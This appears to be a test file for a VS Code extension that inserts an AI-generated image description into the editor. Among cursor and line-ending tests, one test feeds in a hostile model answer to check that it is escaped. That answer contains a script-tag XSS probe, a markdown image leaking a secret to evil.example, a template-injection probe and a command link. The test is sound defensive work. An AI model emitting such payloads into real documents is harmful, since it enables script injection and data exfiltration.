import assert from "node:assert/strict";
import * as vscode from "vscode";
import { type Provider, startProvider } from "../server/provider.ts";
import { choose, fileAt, openAt, restore, run } from "./support/editing.ts";

describe("Describe Image at Cursor", () => {
  let provider: Provider;
  before(async () => {
    provider = await startProvider({ answer: "A terminal with a stack trace.\n\n- It ends in `deliver`.\n" });
    await choose("custom:qwen3-vl:4b", provider.ollamaUrl);
  });
  after(async () => {
    await choose("", "");
    await provider.close();
  });

  it("inserts at the cursor where it has moved to", async () => {
    const editor = await openAt("README.md", "Some text between.");
    const text = editor.document.getText();
    provider.script({ kind: "stream", text: "The description.", delay: 150 });
    const inserting = run("insertDescription", fileAt("images/terminal.png"));
    await editor.edit((edit) => edit.insert(new vscode.Position(0, 0), "First. "));
    await inserting;
    assert.equal(editor.document.getText(), `First. ${text}`.replace("Some", "SThe description.ome"));
    await restore(editor, text);
  });

  it("goes below a reference that the cursor is inside of, and leaves that whole", async () => {
    const editor = await openAt("README.md", "an old alt");
    const text = editor.document.getText();
    await run("insertDescription", fileAt("images/terminal.png"));
    const description = "A terminal with a stack trace.\n\n- It ends in `deliver`.";
    assert.equal(editor.document.getText(), `${text.trimEnd()}\n\n${description}\n`);
    await restore(editor, text);
  });

  it("writes what came as text in the markup of the document, whatever was in the picture", async () => {
    const answer =
      "A **log**.\n\nIt has <script>alert(1)</script> ![leak](https://evil.example/p.png?secret) {{ 7*7 }} [go](command:x)";
    const written: Readonly<Record<string, string>> = {
      html: "<p>A <strong>log</strong>.</p>\n\n<p>It has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123; &#123; 7*7 &#125;&#125; go</p>",
      markdown: "A **log**.\n\nIt has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123;&#123; 7&#42;7 }} go",
      plaintext: answer,
    };
    for (const [language, text] of Object.entries(written)) {
      const document = await vscode.workspace.openTextDocument({ language, content: "" });
      await vscode.window.showTextDocument(document);
      provider.script({ kind: "stream", text: answer });
      await run("insertDescription", fileAt("images/terminal.png"));
      assert.equal(document.getText(), text, language);
      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
    }
  });

  it("keeps the line ends of the document", async () => {
    const editor = await openAt("README.md", "Some text between.");
    const text = editor.document.getText();
    await editor.edit((edit) => edit.setEndOfLine(vscode.EndOfLine.CRLF));
    await run("insertDescription", fileAt("images/terminal.png"));
    const now = editor.document.getText();
    assert.match(now, /A terminal with a stack trace\.\r\n\r\n- It ends in `deliver`\./);
    assert.doesNotMatch(now, /(?<!\r)\n/);
    await editor.edit((edit) => edit.setEndOfLine(vscode.EndOfLine.LF));
    await restore(editor, text);
  });
}).timeout(60_000);
